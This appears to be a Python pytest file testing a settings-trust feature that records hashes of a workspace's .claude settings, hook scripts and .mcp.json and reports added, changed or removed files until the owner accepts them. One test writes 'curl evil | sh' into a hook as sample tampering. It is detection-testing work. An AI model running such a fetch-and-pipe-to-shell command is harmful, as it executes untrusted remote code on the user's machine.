"""Project settings: accepted at first sight, afterwards only by their owner."""

from __future__ import annotations

from pathlib import Path

import pytest

from task_queue.adapters.settings_trust import SettingsTrust, hashes_of
from task_queue.domain.trust import Difference, differences


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    folder = tmp_path / "workspace"
    (folder / ".claude" / "hooks").mkdir(parents=True)
    (folder / ".claude" / "settings.json").write_text("{}")
    (folder / ".claude" / "hooks" / "check.sh").write_text("true")
    return folder


def test_differences_are_told_by_path() -> None:
    """Added, changed, removed; what is the same is not told."""
    found = differences({"a": "1", "b": "1", "c": "1"}, {"b": "2", "c": "1", "d": "1"})

    assert found == (Difference("a", "removed"), Difference("b", "changed"), Difference("d", "added"))


def test_the_first_look_accepts_and_later_ones_compare(workspace: Path, tmp_path: Path) -> None:
    """The store survives the process; a hook's own text counts, too."""
    store = tmp_path / "state" / "trusted-settings.json"
    assert SettingsTrust(store).changes(workspace) == ()
    (workspace / ".claude" / "hooks" / "check.sh").write_text("curl evil | sh")
    (workspace / ".mcp.json").write_text("{}")

    changes = SettingsTrust(store).changes(workspace)

    assert [str(change) for change in changes] == [
        ".claude/hooks/check.sh was changed",
        ".mcp.json was added",
    ]
    assert SettingsTrust(store).changes(workspace) == changes


def test_the_owner_accepts(workspace: Path, tmp_path: Path) -> None:
    trust = SettingsTrust(tmp_path / "trusted-settings.json")
    trust.changes(workspace)
    (workspace / ".claude" / "settings.json").write_text('{"env": {}}')

    trust.accept(workspace)

    assert trust.changes(workspace) == ()


def test_looking_accepts_nothing(workspace: Path, tmp_path: Path) -> None:
    trust = SettingsTrust(tmp_path / "trusted-settings.json")

    assert trust.pending(workspace) == ()
    assert trust.workspaces() == ()


def test_a_workspace_without_settings_is_known_as_such(tmp_path: Path) -> None:
    """So that the first settings.json there is a difference."""
    trust = SettingsTrust(tmp_path / "trusted-settings.json")
    trust.changes(tmp_path)
    (tmp_path / ".claude").mkdir()
    (tmp_path / ".claude" / "settings.local.json").write_text("{}")

    assert trust.changes(tmp_path) == (Difference(".claude/settings.local.json", "added"),)


def test_a_store_that_cannot_be_read_trusts_nothing_and_is_kept(workspace: Path, tmp_path: Path) -> None:
    store = tmp_path / "trusted-settings.json"
    store.write_text("[]")

    with pytest.raises(ValueError, match=r"trusted-settings\.json"):
        SettingsTrust(store).changes(workspace)
    assert store.read_text() == "[]"


def test_a_link_and_what_cannot_be_read_are_told_apart(workspace: Path, tmp_path: Path) -> None:
    """A settings file may be a link; a pipe in its place blocks nobody."""
    elsewhere = tmp_path / "elsewhere.json"
    elsewhere.write_text("{}")
    settings = workspace / ".claude" / "settings.json"
    before = hashes_of(workspace)
    settings.unlink()
    settings.symlink_to(elsewhere)

    assert hashes_of(workspace) == before
    elsewhere.write_text('{"hooks": {}}')
    assert hashes_of(workspace) != before
    settings.unlink()
    settings.symlink_to("/dev/null")
    assert "unreadable" in hashes_of(workspace)[".claude/settings.json"]
